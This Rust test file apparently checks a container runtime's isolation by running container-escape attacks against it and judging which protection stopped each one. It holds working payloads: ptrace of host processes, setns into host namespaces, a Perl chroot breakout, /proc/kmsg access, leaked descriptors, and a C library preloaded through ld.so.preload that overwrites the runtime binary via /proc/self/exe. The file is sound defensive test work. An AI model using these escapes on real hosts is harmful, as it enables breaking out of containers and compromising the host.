//! Attacks on other processes and other files, and by what the runtime itself has open.

use std::fs::{self, File};
use std::os::fd::{AsRawFd, BorrowedFd};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};

use nix::libc;
use nix::mount::{MsFlags, mount, umount};
use nix::unistd::dup2_raw;
use testkit::{dir, needs, random_name};

use super::Container::{self, Plain};
use super::{attack, calls, jail, secret, soon};

/// A process of the host's root.
struct Victim(Child);

impl Victim {
    fn new() -> Victim {
        Victim(Command::new("sleep").arg("600").stdin(Stdio::null()).spawn().expect("start sleep"))
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn trace_a_process_of_the_host() {
    needs!(program = perl);
    attack(Plain, trace);
}

/// What is traced so ends with its tracer.
pub fn trace(container: Container) {
    let mut victim = Victim::new();
    let (seize, exitkill) = (libc::PTRACE_SEIZE, libc::PTRACE_O_EXITKILL);
    let script = format!("syscall({}, {seize}, {}, 0, {exitkill}); print $!", libc::SYS_ptrace, victim.0.id());
    let said = container.perl("", &script);
    let worked = soon(|| victim.0.try_wait().expect("waitpid").is_some());
    container.judge(&["pid", "caps"], worked, &said);
}

#[test]
fn the_hosts_files_by_a_process_of_the_host() {
    attack(Plain, files_by_a_process);
}

/// `/proc/PID/root` of another process leads to its root directory.
pub fn files_by_a_process(container: Container) {
    let (victim, (path, text)) = (Victim::new(), secret());
    let said = container.run("", &format!("cat /proc/{}/root{}", victim.0.id(), path.display()));
    container.judge(&["pid", "caps"], said.contains(&text), &said);
}

#[test]
fn join_a_namespace_of_the_host_and_rename_it() {
    needs!(program = perl);
    attack(Plain, join_and_rename);
}

/// As the name says.
pub fn join_and_rename(container: Container) {
    let victim = Victim::new();
    let join = format!(
        r#"open(my $uts, "<", "/proc/{}/ns/uts") or die $!; syscall({}, fileno($uts), 0);"#,
        victim.0.id(),
        libc::SYS_setns
    );
    let rename = calls::SET_NAME.replace("CALL", &libc::SYS_sethostname.to_string());
    let said = container.perl("", &format!("{join} {rename}; print $!"));
    container.judge(&["pid", "seccomp", "caps"], calls::is_renamed(), &said);
}

#[test]
fn unmount_what_hides() {
    needs!(program = perl);
    attack(Plain, uncover);
}

/// A secret in a volume, under a mount of the host's.
pub fn uncover(container: Container) {
    let (volume, text) = (dir().join("volume"), random_name("secret"));
    let hidden = volume.join("hidden");
    fs::create_dir_all(&hidden).expect("mkdir");
    fs::write(hidden.join("key"), &text).expect("a file");
    mount(Some("none"), &hidden, Some("tmpfs"), MsFlags::empty(), None::<&str>).expect("mount");
    let unmount = format!(r#"my $at = "/volume/hidden"; syscall({}, $at, 0);"#, libc::SYS_umount2);
    let look = r#"open(my $key, "<", "/volume/hidden/key") or die $!; print <$key>"#;
    let said = container.perl(&format!("-v {}:/volume", volume.display()), &format!("{unmount} {look}"));
    umount(&hidden).expect("umount");
    container.judge(&["seccomp", "caps"], said.contains(&text), &said);
}

#[test]
fn take_a_network_device_down() {
    needs!(program = perl, program = ip);
    attack(Plain, device_down);
}

/// The host's loopback device, by its flags.
pub fn device_down(container: Container) {
    let ip = |words: &[&str]| Command::new("ip").args(words).output().expect("start ip").stdout;
    ip(&["link", "set", "lo", "up"]);
    let script = format!(
        r#"my $flags = pack("a16s", "lo", 0); socket(my $socket, {}, {}, 0); ioctl($socket, {}, $flags) or print $!"#,
        libc::AF_INET,
        libc::SOCK_DGRAM,
        libc::SIOCSIFFLAGS
    );
    let said = container.perl("", &script);
    let worked = !String::from_utf8_lossy(&ip(&["link", "show", "lo"])).contains(",UP");
    container.judge(&["caps"], worked, &said);
}

#[test]
fn open_the_kernels_log() {
    needs!(root, program = perl);
    attack(Plain, open_the_log);
}

/// Not read: whoever reads it takes it from others.
pub fn open_the_log(container: Container) {
    let script = r#"open(my $log, "<", "/proc/kmsg"); print readlink("/proc/self/fd/" . fileno($log))"#;
    let said = container.perl("", script);
    container.judge(&["caps"], said == "/proc/kmsg", &said);
}

/// Out of a chroot, in Perl; where there is none it leads nowhere.
pub const WALK_OUT: &str = r#"mkdir "/dev/deeper"; chroot "/dev/deeper"; chdir ".." for 1 .. 99; chroot ".";"#;

#[test]
fn walk_out_of_the_root() {
    needs!(program = perl);
    attack(Plain, |container| {
        let (path, text) = secret();
        let look = format!(r#"open(my $file, "<", "{}") or die $!; print <$file>"#, path.display());
        let said = container.perl("", &format!("{WALK_OUT} {look}"));
        container.judge(&["root"], said.contains(&text), &said);
    });
}

/// Whatever is started begins with this: it opens the file of the runtime, which it is, and becomes somebody who is not,
/// and who writes to it as soon as that can be.
const EVIL: &str = r#"
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) {
    char self[256] = {0};
    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || !strstr(self, "victim")) return;
    dup2(open("/proc/self/exe", O_RDONLY), 9);
    if (fork()) _exit(0);
    setsid();
    execlp("sh", "sh", "-c", "for try in $TRIES; do echo evil >/proc/self/fd/9 && exit; sleep 0.01; done", (char *)0);
}
"#;

#[test]
fn overwrite_the_runtime() {
    needs!(program = cc);
    attack(Plain, |container| {
        let (victim, source, library) =
            (dir().join("victim"), dir().join("evil.c"), jail(&["sh", "sleep"]).join("evil.so"));
        fs::copy(env!("CARGO_BIN_EXE_boxwright"), &victim).expect("copy");
        fs::write(&source, EVIL).expect("a file");
        let compiled = Command::new("cc").args(["-shared", "-fPIC", "-o"]).args([&library, &source]).status();
        assert!(compiled.expect("start cc").success());
        fs::write(jail(&[]).join("etc/ld.so.preload"), "/evil.so\n").expect("a file");
        for library in testkit::rootfs::libraries(&victim).expect("its libraries") {
            let copy = jail(&[]).join(library.strip_prefix("/").unwrap_or(&library));
            fs::create_dir_all(copy.parent().expect("a directory")).expect("mkdir");
            fs::copy(&library, copy).expect("copy");
        }
        let mut command = Command::new(&victim);
        command
            .args(["run", "--rootfs"])
            .arg(jail(&[]))
            .args(["--env", &format!("TRIES={}", "again ".repeat(40))])
            .args(["--", "/proc/self/exe"])
            .stdin(Stdio::null());
        let output = command.output().expect("start the victim");
        let worked = soon(|| fs::read(&victim).is_ok_and(|bytes| bytes == b"evil\n"));
        // Nobody outlives PID 1, nor the group; and as long as boxwright runs its file cannot be written (ETXTBSY).
        let walls: &[&str] = if testkit::cgroup_dirs().is_empty() { &["pid"] } else { &["pid", "cgroup"] };
        container.judge(walls, worked, &format!("{output:?}"));
    });
}

/// A container whose caller has left the directory of a secret open as descriptor 9.
fn with_a_leak(container: Container, flags: &str, script: &str) -> (String, String) {
    let (_, text) = secret();
    let directory = File::open(dir()).expect("open");
    jail(&["sh", "cat"]);
    let mut command = container.command(flags, &["sh", "-c", script]);
    let number = directory.as_raw_fd();
    // SAFETY: dup2 may be called between fork and exec; nobody has a 9 that is closed here.
    unsafe {
        command.pre_exec(move || dup2_raw(BorrowedFd::borrow_raw(number), 9).map(std::mem::forget).map_err(Into::into))
    };
    let output = command.stdin(Stdio::null()).output().expect("start boxwright");
    (text, format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr)))
}

#[test]
fn a_leaked_directory_by_its_number() {
    attack(Plain, |container| {
        let (text, said) = with_a_leak(container, "", "cat /proc/self/fd/9/secret");
        container.judge(&["descriptors"], said.contains(&text), &said);
    });
}

#[test]
fn a_leaked_directory_as_working_directory() {
    attack(Plain, |container| {
        let (text, said) = with_a_leak(container, "--workdir /proc/self/fd/9", "cat secret");
        container.judge(&["workdir"], said.contains(&text), &said);
    });
}
